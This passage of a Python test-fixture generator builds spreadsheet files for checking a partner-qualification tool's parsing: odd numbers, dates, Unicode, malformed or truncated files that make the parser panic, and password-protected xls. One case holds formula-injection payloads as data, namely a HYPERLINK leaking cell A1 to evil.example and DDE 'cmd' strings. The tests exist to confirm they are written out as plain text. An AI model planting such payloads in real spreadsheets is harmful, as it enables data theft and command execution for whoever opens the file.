    ws.append([1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", "=500*2", "Paid", "DAP"])
    ws.append([1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", "=F2+F3", "Paid", "DAP"])
    buf = io.BytesIO()
    wb.save(buf)
    # re-pack with fixed timestamps (openpyxl stamps the current time into docProps/core.xml too)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    entries = []
    for n in src.namelist():
        data = src.read(n)
        if n == "docProps/core.xml":
            import re
            data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2017-09-15T12:00:00Z", data)
        entries.append((n, data))
    write("formulas_without_cached_values.xlsx", zip_bytes(entries))
    return [dict(file="formulas_without_cached_values.xlsx",
                 what="Written by openpyxl: Active Users in F3 and F4 are formulas with no cached value (as every openpyxl/script-generated file has until Excel recalculates it)",
                 expect="read", partners=[P("1000001", 1500, 0, "none")],
                 problems=[prob("Customers", "F3"), prob("Customers", "F4")],
                 note="A formula without a cached value reads as an empty Active Users cell: a problem, never 0 and never evaluated.")]


@case("numbers_as_text_separators")
def _():
    T = lambda s: s  # a plain str is written as a (shared) string cell
    rows = [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", T("1,200"), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", T("1.200"), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", T("1 200"), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(4), "Datum Fabrics", "Exchange Online", T("1\u00a0200"), "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(5), "Woodgrove Bank", "Exchange Online", T(" 1200 "), "Paid", "DAP"),
        (T("1000002"), "Fabrikam Inc", guid(101), "Fourth Coffee", "Exchange Online", T("2,500"), "Paid", "DAP"),
        (T("1000002"), "Fabrikam Inc", guid(102), "Graphic Design Institute", "Exchange Online", Num(1500, STYLE_TEXT), "Paid", "DAP"),
        (1000003, "Northwind Traders", guid(201), "Humongous Insurance", "Exchange Online", T("1,000,000"), "Paid", "DAP"),
        (1000003, "Northwind Traders", guid(202), "Lucerne Publishing", "Exchange Online", T("1.000.000"), "Paid", "DAP"),
    ]
    t = transcripts_sheet("Transcripts", [
        (1000001, "alice@contoso.com", "Alice Archer", MCSA, D(2017, 3, 1)),
        (1000001, "amy@contoso.com", "Amy Alvarez", MCSA, D(2017, 3, 2)),
        (1000002, "bob@fabrikam.com", "Bob Brown", MCSA, D(2017, 3, 3))])
    write("numbers_as_text_separators.xlsx", xlsx_bytes([customers_sheet("Customers", rows), t]))
    return [dict(file="numbers_as_text_separators.xlsx",
                 what="Active Users stored as text: '1,200', '1.200', '1 200', '1<NBSP>200', ' 1200 ' (all 1200); '2,500'; a number in a Text-formatted cell; '1,000,000' and '1.000.000'; Partner ID '1000002' as text",
                 expect="read",
                 partners=[P("1000001", 6000, 2, "gold"), P("1000002", 4000, 1, "silver"),
                           P("1000003", 2000000, 0, "none")])]


@case("ambiguous_decimal_active_users")
def _():
    rows = [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2000, "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", 500, "Paid", "DAP"),
        (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", 1.5, "Paid", "DAP"),          # F4
        (1000001, "Contoso Ltd", guid(4), "Datum Fabrics", "Exchange Online", "1.5", "Paid", "DAP"),      # F5
        (1000001, "Contoso Ltd", guid(5), "Woodgrove Bank", "Exchange Online", "1,5", "Paid", "DAP"),     # F6
        (1000001, "Contoso Ltd", guid(6), "Lucerne Publishing", "Exchange Online", "12,00", "Paid", "DAP"),  # F7
        (1000001, "Contoso Ltd", guid(7), "Litware Inc", "Exchange Online", "1.2345", "Paid", "DAP"),    # F8
        (1000001, "Contoso Ltd", guid(8), "Margie's Travel", "Exchange Online", 1999.99, "Paid", "DAP"),  # F9
    ]
    t = transcripts_sheet("Transcripts", [(1000001, "alice@contoso.com", "Alice Archer", MCSA, D(2017, 3, 1))])
    write("ambiguous_decimal_active_users.xlsx", xlsx_bytes([customers_sheet("Customers", rows), t]))
    return [dict(file="ambiguous_decimal_active_users.xlsx",
                 what="Active Users that are not whole numbers or have ambiguous separators: 1.5 (number), '1.5', '1,5', '12,00', '1.2345' (text), 1999.99 (number); none may be rounded or guessed",
                 expect="read", partners=[P("1000001", 2500, 1, "silver")],
                 problems=[prob("Customers", c) for c in ("F4", "F5", "F6", "F7", "F8", "F9")],
                 note="A bad Active Users cell drops that row (it adds nothing) and is reported; rounded, the partner would pass 2000 differently.")]


@case("bad_active_users_values")
def _():
    rows = [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP"),  # row 2
        (1000001, "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", -5, "Paid", "DAP"),  # F3
        (1000001, "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", "abc", "Paid", "DAP"),        # F4
        (1000001, "Contoso Ltd", guid(4), "Datum Fabrics", "Exchange Online", Bool(True), "Paid", "DAP"), # F5
        (1000001, "Contoso Ltd", guid(5), "Woodgrove Bank", "Exchange Online", Err("#N/A"), "Paid", "DAP"),  # F6
        (1000001, "Contoso Ltd", guid(6), "Lucerne Publishing", "Exchange Online", 1e300, "Paid", "DAP"),   # F7
        (1000001, "Contoso Ltd", guid(7), "Litware Inc", "Exchange Online", None, "Paid", "DAP"),           # F8 missing
        (1000001, "Contoso Ltd", guid(8), "Margie's Travel", "Exchange Online", "1200 users", "Paid", "DAP"),  # F9
        (None,) * 8,                                                                                        # row 10 blank
        (1000002, "Fabrikam Inc", guid(101), "Fourth Coffee", "Exchange Online", 0, "Paid", "DAP"),         # row 11: 0 is valid
        (1000002, "Fabrikam Inc", guid(102), "Graphic Design Institute", "Exchange Online", 2100, "Paid", "DAP"),
    ]
    write("bad_active_users_values.xlsx", xlsx_bytes([customers_sheet("Customers", rows)]))
    return [dict(file="bad_active_users_values.xlsx",
                 what="Active Users that are negative, text, TRUE, #N/A, 1e300, missing, '1200 users'; then a fully blank row and more valid rows (0 is valid) below it",
                 expect="read", partners=[P("1000001", 2500, 0, "none"), P("1000002", 2100, 0, "none")],
                 problems=[prob("Customers", c) for c in ("F3", "F4", "F5", "F6", "F7", "F8", "F9")],
                 note="The blank row 10 is not a problem and does not end the table: Fabrikam's rows below it count.")]


@case("dates_serial_and_text")
def _():
    t = transcripts_sheet("Transcripts", [
        (1000001, "alice@contoso.com", "Alice Archer", EX346, D(2017, 5, 3)),                               # E2 styled serial
        (1000001, "alice@contoso.com", "Alice Archer", EX347, serial(dt.date(2017, 5, 4))),                  # E3 bare serial
        (1000001, "bob@contoso.com", "Bob Brown", MCSA, "2017-05-03"),                                      # E4 ISO text
        (1000001, "carol@contoso.com", "Carol Chen", EX346, "03.05.2017"),                                  # E5 German text
        (1000001, "carol@contoso.com", "Carol Chen", EX347, Date(serial(dt.date(2017, 5, 3)), STYLE_DATE_DE)),  # E6 custom fmt
        (1000001, "dave@contoso.com", "Dave Diaz", EX346, "31.02.2017"),                                    # E7 impossible
    ])
    c = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 4500, "Paid", "DAP")])
    write("dates_serial_and_text.xlsx", xlsx_bytes([c, t]))
    return [dict(file="dates_serial_and_text.xlsx",
                 what="Date Passed as a date-formatted serial, a bare serial number, text '2017-05-03', text '03.05.2017', a custom dd.mm.yyyy format, and the impossible '31.02.2017'",
                 expect="read", partners=[P("1000001", 4500, 3, "gold")],
                 problems=[prob("Transcripts", "E7")],
                 dates_passed=[
                     {"person_id": "alice@contoso.com", "credential_contains": "70-346", "date": "2017-05-03"},
                     {"person_id": "alice@contoso.com", "credential_contains": "70-347", "date": "2017-05-04"},
                     {"person_id": "bob@contoso.com", "credential_contains": "MCSA", "date": "2017-05-03"},
                     {"person_id": "carol@contoso.com", "credential_contains": "70-346", "date": "2017-05-03"},
                     {"person_id": "carol@contoso.com", "credential_contains": "70-347", "date": "2017-05-03"}],
                 note="Dates do not decide qualification; Dave's bad date is reported and he has one exam only anyway.")]


@case("dates_1904")
def _():
    sheets = [customers_sheet("Customers", BASE_CUSTOMERS),
              transcripts_sheet("Transcripts", base_transcript_rows(date1904=True))]
    write("dates_1904.xlsx", xlsx_bytes(sheets, date1904=True))
    return [dict(file="dates_1904.xlsx",
                 what="The baseline data in a workbook using the 1904 date system (<workbookPr date1904=\"1\"/>): date serials are 1462 smaller",
                 expect="read", partners=BASE_EXPECT,
                 dates_passed=[{"person_id": e, "credential_contains": c.split(":")[0].replace("Exam ", ""),
                                "date": d.isoformat()}
                               for p, e, n, c, d in BASE_TRANSCRIPTS[:2]])]


UNICODE_PARTNERS = [
    (1000011, "Müller & Söhne GmbH"),
    (1000012, "شركة الخليج للتقنية"),
    (1000013, "אלפא מערכות בע״מ"),
    (1000014, "🚀 Rocket Cloud 👩\u200d💻"),
    (1000015, "株式会社サンプル"),
]


@case("unicode_names")
def _():
    names = dict(UNICODE_PARTNERS)
    rows = [
        (1000011, names[1000011], guid(11), "Ærøskøbing Kommune", "Exchange Online", 2100, "Paid", "DAP"),
        (1000012, names[1000012], guid(12), "مستشفى النور", "Exchange Online", 2200, "Paid", "DAP"),
        (1000013, names[1000013], guid(13), "עיריית חיפה", "Exchange Online", 4300, "Paid", "DAP"),
        (1000014, names[1000014], guid(14), "Family 👨\u200d👩\u200d👧\u200d👦 Bakery 🥐", "Exchange Online", 1000, "Paid", "DAP"),
        (1000015, names[1000015], guid(15), "\u202etxt.exe\u202c Ltd (RLO override)", "Exchange Online", 500, "Paid", "DAP"),
        (1000015, names[1000015], guid(16), "Zoe\u0308 Cafe\u0301 (combining marks)", "Exchange Online", 200, "Paid", "DAP"),
    ]
    t = transcripts_sheet("Zertifizierungen ✓", [
        (1000011, "jürgen.groß@müller-söhne.de", "Jürgen Groß", MCSA, D(2017, 1, 5)),
        (1000012, "fatima@khaleej.example", "فاطمة الزهراء", MCSA, D(2017, 1, 6)),
        (1000013, "noa@alpha.example", "נועה כהן", MCSA, D(2017, 1, 7)),
        (1000013, "yossi@alpha.example", "יוסי לוי", EX346, D(2017, 1, 8)),
        (1000013, "yossi@alpha.example", "יוסי לוי", EX347, D(2017, 1, 9)),
        (1000014, "zoe@rocket.example", "Zoë 🦄 Ångström", MCSA, D(2017, 1, 10)),
    ])
    write("unicode_names.xlsx", xlsx_bytes([customers_sheet("Kunden – Übersicht", rows), t]))
    return [dict(file="unicode_names.xlsx",
                 what="Non-ASCII everywhere: umlauts, Arabic and Hebrew (right-to-left), CJK, emoji with ZWJ sequences, a U+202E right-to-left override, combining marks, non-ASCII e-mail addresses and sheet names",
                 expect="read",
                 partners=[P("1000011", 2100, 1, "silver", name=names[1000011]),
                           P("1000012", 2200, 1, "silver", name=names[1000012]),
                           P("1000013", 4300, 2, "gold", name=names[1000013]),
                           P("1000014", 1000, 1, "none", name=names[1000014]),
                           P("1000015", 700, 0, "none", name=names[1000015])],
                 note="Names must come out byte-identical (no normalisation, no stripping of U+202E or ZWJ).")]


INJECTION_STRINGS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "-Sales team",
    "+49 30 1234567",
]


@case("formula_injection_text")
def _():
    rows = [
        (1000021, INJECTION_STRINGS[5], guid(21), INJECTION_STRINGS[0], "Exchange Online", 1000, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(22), INJECTION_STRINGS[1], "Exchange Online", 900, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(23), INJECTION_STRINGS[2], "Exchange Online", 100, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(24), INJECTION_STRINGS[3], "Exchange Online", 100, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(25), INJECTION_STRINGS[4], "Exchange Online", 100, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(26), Inline(INJECTION_STRINGS[6]), "Exchange Online", 100, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(27), INJECTION_STRINGS[7], "Exchange Online", 100, "Paid", "DAP"),
        (1000021, INJECTION_STRINGS[5], guid(28), INJECTION_STRINGS[8], "Exchange Online", 100, "Paid", "DAP"),
    ]
    t = transcripts_sheet("Transcripts", [
        (1000021, "=1+1@evil.example", "@SUM(1+1)", MCSA, D(2017, 3, 1)),
        (1000021, "mallory@evil.example", "=HYPERLINK(\"http://evil.example\",\"Mallory\")", MCSA, D(2017, 3, 2)),
    ])
    write("formula_injection_text.xlsx", xlsx_bytes([customers_sheet("Customers", rows), t]))
    return [dict(file="formula_injection_text.xlsx",
                 what="Text cells (shared and inline strings, not formulas) that start with =, +, -, @ or a tab in partner, customer and person name columns",
                 expect="read",
                 partners=[P("1000021", 2500, 2, "silver", name=INJECTION_STRINGS[5])],
                 report_text=[x for x in INJECTION_STRINGS if not x.startswith("\t")] + ["=1+1@evil.example", "@SUM(1+1)",
                                                  "=HYPERLINK(\"http://evil.example\",\"Mallory\")"],
                 note="report_text: each string must appear in the output workbook as a string cell with exactly this value (no added apostrophe), never as a formula cell. The tab-led name is left out of report_text in case the tool trims names.")]


@case("same_person_two_partners")
def _():
    c = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP"),
        (1000002, "Fabrikam Inc", guid(101), "Fourth Coffee", "Exchange Online", 4200, "Paid", "DAP")])
    t = transcripts_sheet("Transcripts", [
        (1000001, "alex@contoso.com", "Alex Adler", EX346, D(2017, 3, 1)),
        (1000001, "alex@contoso.com", "Alex Adler", EX347, D(2017, 3, 2)),
        (1000001, "alex@contoso.com", "Alex Adler", EX347, D(2017, 3, 2)),   # exact duplicate row
        (1000002, "alex@contoso.com", "Alex Adler", EX346, D(2017, 3, 1)),
        (1000002, "alex@contoso.com", "Alex Adler", EX347, D(2017, 6, 1)),   # latest pass: alex counts here
        (1000002, "sam@contoso.com", "Sam Stone", MCSA, D(2017, 4, 4)),
        (1000001, "sam@contoso.com", "Sam Stone", MCSA, D(2017, 4, 4)),      # tie: lowest id, 1000001
        (1000002, "bob@fabrikam.com", "Bob Brown", MCSA, D(2017, 3, 3)),
    ])
    write("same_person_two_partners.xlsx", xlsx_bytes([c, t]))
    return [dict(file="same_person_two_partners.xlsx",
                 what="alex@contoso.com is qualified under 1000001 and under 1000002 (latest pass under 1000002); sam@contoso.com holds MCSA under both on the same day; plus an exact duplicate transcript row",
                 expect="read",
                 partners=[P("1000001", 2500, 1, "silver"), P("1000002", 4200, 2, "gold")],
                 problems=[prob("Transcripts", None, "alex@contoso.com"), prob("Transcripts", None, "sam@contoso.com")],
                 note="Rule (README of the tool): a person counts for one partner only, the one whose transcript shows the latest pass, on a tie the lowest partner id; a problem naming the person says so. alex -> 1000002 (2017-06-01), sam -> 1000001 (tie). Counted for both, 1000001 would be 2 people and gold.")]


@case("partner_ids_spaces_zeros")
def _():
    rows = [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 500, "Paid", "DAP"),
        ("0001000001", "Contoso Ltd", guid(2), "Blue Yonder Airlines", "Exchange Online", 500, "Paid", "DAP"),
        (" 1000001 ", "Contoso Ltd", guid(3), "Coho Winery", "Exchange Online", 500, "Paid", "DAP"),
        ("1 000 001", "Contoso Ltd", guid(4), "Datum Fabrics", "Exchange Online", 500, "Paid", "DAP"),
        ("1\u00a0000\u00a0001", "Contoso Ltd", guid(5), "Woodgrove Bank", "Exchange Online", 500, "Paid", "DAP"),
        ("10O0001", "Contoso Ltd", guid(6), "Lucerne Publishing", "Exchange Online", 7000, "Paid", "DAP"),  # A7: letter O
        ("", "Contoso Ltd", guid(7), "Litware Inc", "Exchange Online", 7000, "Paid", "DAP"),               # A8: empty string
    ]
    t = transcripts_sheet("Transcripts", [
        ("01000001", "alice@contoso.com", "Alice Archer", EX346, D(2017, 3, 1)),
        (Num(1000001, STYLE_TEXT), "alice@contoso.com", "Alice Archer", EX347, D(2017, 3, 2)),
    ])
    write("partner_ids_spaces_zeros.xlsx", xlsx_bytes([customers_sheet("Customers", rows), t]))
    return [dict(file="partner_ids_spaces_zeros.xlsx",
                 what="One partner written as 1000001 (number), '0001000001', ' 1000001 ' (spaces kept via xml:space), '1 000 001', '1<NBSP>000<NBSP>001' and in transcripts as '01000001'; plus the invalid '10O0001' and an empty-string id",
                 expect="read", partners=[P("1000001", 2500, 1, "silver")],
                 problems=[prob("Customers", "A7"), prob("Customers", "A8")],
                 note="Partner ids are normalised: spaces (incl. NBSP) removed, leading zeros dropped. Rows with an invalid id are dropped and reported.")]


@case("far_cell_xfd1048576")
def _():
    sh = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])
    sh.cells[(1048576, 16384)] = "x"
    write("far_cell_xfd1048576.xlsx", xlsx_bytes([sh]))
    return [dict(file="far_cell_xfd1048576.xlsx",
                 what="A normal small customers sheet plus one value 'x' at XFD1048576; dimension A1:XFD1048576 (17 billion cells if read densely: worksheet_range aborts the process)",
                 expect="read", partners=[P("1000001", 2500, 0, "none")],
                 extra_problems_ok=True,
                 note="The stray cell is outside every header column; the tool may ignore it or note it. It must not build a dense grid.")]


@case("dimension_lie")
def _():
    sh = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])
    sh.dimension = "A1:XFD1048576"
    write("dimension_lie.xlsx", xlsx_bytes([sh]))
    return [dict(file="dimension_lie.xlsx",
                 what="Cells only in A1:H2 but the <dimension> tag claims A1:XFD1048576: nothing may be sized from dimensions()",
                 expect="read", partners=[P("1000001", 2500, 0, "none")])]


@case("dimension_reversed")
def _():
    sh = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])
    sh.dimension = "H2:A1"
    write("dimension_reversed.xlsx", xlsx_bytes([sh]))
    return [dict(file="dimension_reversed.xlsx",
                 what="A normal small customers sheet whose <dimension ref=\"H2:A1\"/> is reversed: calamine 0.38 subtracts u32s (end - start), which panics with overflow checks on (debug/test builds) and wraps in release",
                 expect="survives",
                 note="Debug builds (cargo test) panic inside worksheet_cells_reader: catch_unwind must turn that into a problem. Release builds read 1000001 with 2500 users. Both pass.")]


@case("cell_ref_overflow")
def _():
    sh = customers_sheet("Customers", [
        (1000001, "Contoso Ltd", guid(1), "Adatum Corporation", "Exchange Online", 2500, "Paid", "DAP")])
    raw = xlsx_bytes([sh])
    src = zipfile.ZipFile(io.BytesIO(raw))
    entries = []
    for n in src.namelist():
        data = src.read(n).decode("utf-8")
        if n == "xl/worksheets/sheet1.xml":
            data = data.replace("</sheetData>", '<row r="3"><c r="ZZZZZZZZ3" t="inlineStr"><is><t>far</t></is></c></row></sheetData>')
            data = data.replace('<dimension ref="A1:H2"/>', '<dimension ref="A1:H3"/>')
        entries.append((n, data))
    write("cell_ref_overflow.xlsx", zip_bytes(entries))
    return [dict(file="cell_ref_overflow.xlsx",
                 what="A normal small customers sheet plus a cell whose reference ZZZZZZZZ3 overflows calamine's u32 column arithmetic (panics with overflow checks on, wraps in release)",
                 expect="survives",
                 note="Debug builds panic in the cells reader after the good rows: catch_unwind must contain it. Release builds read on (the column is garbage). Both pass.")]


@case("no_cell_references")
def _():
    c = customers_sheet("Customers", BASE_CUSTOMERS, omit_refs=True)
    c.dimension = ""
    t = transcripts_sheet("Transcripts", base_transcript_rows(), omit_refs=True)
    t.dimension = ""
    write("no_cell_references.xlsx", xlsx_bytes([c, t]))
    return [dict(file="no_cell_references.xlsx",
                 what="The baseline data with no r= attributes on <row>/<c> and no <dimension> (legal; some generators write this)",
                 expect="read", partners=BASE_EXPECT)]


@case("german_headers")
def _():
    sku = {"Paid": "Kostenpflichtig", "Trial": "Testversion"}
    assoc = {"None": "Keine"}
    headers = ["Partner-ID", "Partner Name", "Kunden-ID", "Customer Name", "Arbeitslast",
               "Aktive Benutzer", "SKU Type", "Association"]
    rows = []
    for p, pn, cid, cn, w, u, s, a in BASE_CUSTOMERS:
        rows.append((p, pn, cid, cn, w, f"{u:,}".replace(",", "."), sku[s], assoc.get(a, a)))
    t = transcripts_sheet("Transkripte", [(p, e, n, c, d.strftime("%d.%m.%Y"))
                                          for p, e, n, c, d in BASE_TRANSCRIPTS])
    write("german_headers.xlsx", xlsx_bytes([customers_sheet("Kunden", rows, headers=headers), t]))
    return [dict(file="german_headers.xlsx",
                 what="The baseline data with German headers (Partner-ID, Kunden-ID, Arbeitslast, Aktive Benutzer), Kostenpflichtig/Testversion, Keine, German thousands as text ('1.500') and German text dates",
                 expect="read", partners=BASE_EXPECT)]


@case("headers_odd_spelling_order")
def _():
    cover = Sheet("Read me")
    cover.row(1, ["This workbook was exported from Partner Center."])
    cover.row(2, ["Partner ID", "means your MPN ID"])   # a lone header-like cell: not a table
    headers = ["  ACTIVE_USERS ", "association:", "customer-name", "Region", "partner id", "WORKLOAD",
               "Sku  Type", "Customer.ID", "Partner Name", "Notes"]
    sh = Sheet("Sheet3")
    sh.row(1, headers)
    data = []
    for p, pn, cid, cn, w, u, s, a in BASE_CUSTOMERS:
        data.append((u, a, cn, "EMEA", p, w, s, cid, pn, None))
    for i, r in enumerate(data):
        sh.row(2 + i, r)
    t = Sheet("Sheet4")
    t.row(1, ["DATE PASSED", "credential", "Person-Name", "person_id", "PARTNER ID"])
    for i, (p, e, n, c, d) in enumerate(BASE_TRANSCRIPTS):
        t.row(2 + i, (D(d.year, d.month, d.day), c, n, e, p))
    write("headers_odd_spelling_order.xlsx", xlsx_bytes([cover, sh, t]))
    return [dict(file="headers_odd_spelling_order.xlsx",
                 what="Baseline data with headers in odd case/spacing/punctuation ('  ACTIVE_USERS ', 'association:', 'customer-name', 'Sku  Type'), shuffled columns, extra columns, generic sheet names, and a cover sheet holding a lone 'Partner ID' cell",
                 expect="read", partners=BASE_EXPECT)]


@case("legacy_biff_xls")
def _():
    import xlwt
    wb = xlwt.Workbook(encoding="utf-8")
    date_style = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    ws = wb.add_sheet("Customers")
    for c, h in enumerate(CUST_HEADERS):
        ws.write(0, c, h)
    for r, row in enumerate(BASE_CUSTOMERS, 1):
        for c, v in enumerate(row):
            ws.write(r, c, v)
    wt = wb.add_sheet("Transcripts")
    for c, h in enumerate(TRANS_HEADERS):
        wt.write(0, c, h)
    for r, (p, e, n, cr, d) in enumerate(BASE_TRANSCRIPTS, 1):
        for c, v in enumerate((p, e, n, cr)):
            wt.write(r, c, v)
        wt.write(r, 4, dt.datetime(d.year, d.month, d.day), date_style)
    buf = io.BytesIO()
    wb.save(buf)
    write("legacy_biff.xls", buf.getvalue())
    return [dict(file="legacy_biff.xls", what="The baseline data as a real Excel 97-2003 BIFF8 .xls (written by xlwt)",
                 expect="read", partners=BASE_EXPECT)]


@case("old_and_protected_xls")
def _():
    # Excel 4.0 (BIFF4) worksheet, not in a compound file: BOF 0x0409, a
    # number cell, EOF. Excel 2-4 files start like this.
    biff4 = (struct.pack("<HHHHH", 0x0409, 6, 0x0000, 0x0010, 0x0000)
             + struct.pack("<HHHHHd", 0x0203, 14, 0, 0, 0x0F, 1000001.0)
             + struct.pack("<HH", 0x000A, 0))
    write("biff4_worksheet.xls", biff4)
    # XOR-obfuscated (password protected) BIFF8: xlwt's stream with a FILEPASS record (type 0,
    # XOR: key and verifier) right after the workbook's BOF; calamine reads the rest as garbage
    # ('Codepage D7D4 not found' on Excel's own saves).
    import xlwt
    from xlwt import CompoundDoc
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Customers")
    for c, h in enumerate(CUST_HEADERS):
        ws.write(0, c, h)
    stream = wb.get_biff_data()
    bof_len = struct.unpack("<H", stream[2:4])[0]
    at = 4 + bof_len
    filepass = struct.pack("<HHHHH", 0x002F, 6, 0x0000, 0x1234, 0xABCD)
    doc = CompoundDoc.XlsDoc()
    buf = io.BytesIO()
    doc.save(buf, stream[:at] + filepass + stream[at:])
    write("password_xor.xls", buf.getvalue())
    return [dict(file="biff4_worksheet.xls", what="An Excel 4.0 worksheet (BIFF4, not an OLE file), like SheetJS's crlf_CRLFR9_4.XLS",
                 expect="refused", message_contains="Excel 4.0",
                 note="Told by its BOF record: 'an Excel 4.0 (or older) workbook', with what to do (save it as .xlsx), not 'unknown file format'."),
            dict(file="password_xor.xls", what="A BIFF8 .xls with a FILEPASS record (XOR obfuscation: a password), like SheetJS's password_2002_40_xor.xls",
                 expect="refused", message_contains="password protected",
                 note="The workbook stream is checked for FILEPASS before calamine reads it, which would say 'Codepage ... not found'.")]


@case("ods_and_zip_damage")
def _():
    # An OpenDocument sheet with one value repeated over every row and column: calamine's ODS
    # reader refuses it ('Cell limit exceeded (17179869184 cells requested, max 100000000)').
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="Customers">'
               '<table:table-row><table:table-cell office:value-type="string"><text:p>Partner ID</text:p>'
               '</table:table-cell></table:table-row>'
               '<table:table-row table:number-rows-repeated="1048575">'
               '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1">'
               '<text:p>1</text:p></table:table-cell></table:table-row>'
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    write("ods_repeated_everywhere.ods", zip_bytes([
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", manifest), ("content.xml", content)], stored=["mimetype"]))
    # An xlsx whose workbook part is missing (its other parts are there).
    full = [e for e in [("[Content_Types].xml", content_types(2, False)), ("_rels/.rels", ROOT_RELS)]
            + workbook_parts(base_sheets(), False, False)[1:] + [("xl/styles.xml", STYLES_XML)]]
    write("xlsx_without_workbook_part.xlsx", zip_bytes(full))
    return [dict(file="ods_repeated_everywhere.ods",
                 what="An OpenDocument sheet with one value repeated over 1,048,575 rows and 16,384 columns",
                 expect="refused", message_contains="cells",
                 note="calamine's own limit; the message says what it is and what to do (delete the rows and columns past the data, or save as .xlsx), with calamine's words after it."),
            dict(file="xlsx_without_workbook_part.xlsx",
                 what="An xlsx zip whose xl/workbook.xml is missing (calamine opens it as a workbook without sheets)",
                 expect="refused", message_contains="lists no sheets")]


@case("truncated_biff_xls")
def _():
    full = open(os.path.join(OUT, "legacy_biff.xls"), "rb").read()
    assert len(full) == 9728, len(full)  # the cut points below were found against this exact file
    cuts = [("truncated_biff.xls", 6485,
             "legacy_biff.xls cut to 6,485 bytes: the OLE/CFB header points at sectors that are gone (calamine: 'Sector 16 points past end of file')"),
            ("truncated_biff_panic_slice.xls", 8192,
             "legacy_biff.xls cut to 8,192 bytes: calamine 0.38 PANICS in cfb.rs:320 ('slice index starts at 8192 but ends at 7680')"),
            ("truncated_biff_panic_index.xls", 8704,
             "legacy_biff.xls cut to 8,704 bytes: calamine 0.38 PANICS in cfb.rs:344 ('index out of bounds: the len is 0 but the index is 17')")]
    out = []
    for name, n, what in cuts:
        write(name, full[:n])
        out.append(dict(file=name, what=what, expect="refused",
                        note="Read each file under std::panic::catch_unwind: the panic must become this file's problem, never end the run. Any refusal message passes."))
    return out


@case("open_document_ods")
def _():
    def cell(v) -> str:
        if isinstance(v, bool):
            raise TypeError
        if isinstance(v, (int, float)):
            return (f'<table:table-cell office:value-type="float" office:value="{v}">'
                    f"<text:p>{v}</text:p></table:table-cell>")
        if isinstance(v, dt.date):
            return (f'<table:table-cell table:style-name="ce1" office:value-type="date" '
                    f'office:date-value="{v.isoformat()}"><text:p>{v.isoformat()}</text:p></table:table-cell>')
        return f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p></table:table-cell>'

    def table(name, headers, rows):
        body = "".join("<table:table-row>" + "".join(cell(v) for v in r) + "</table:table-row>"
                       for r in [headers] + [list(x) for x in rows])
        return (f'<table:table table:name="{escape(name)}">'
                f'<table:table-column table:number-columns-repeated="{len(headers)}"/>{body}</table:table>')

    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0" '
          'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {ns} office:version="1.2">'
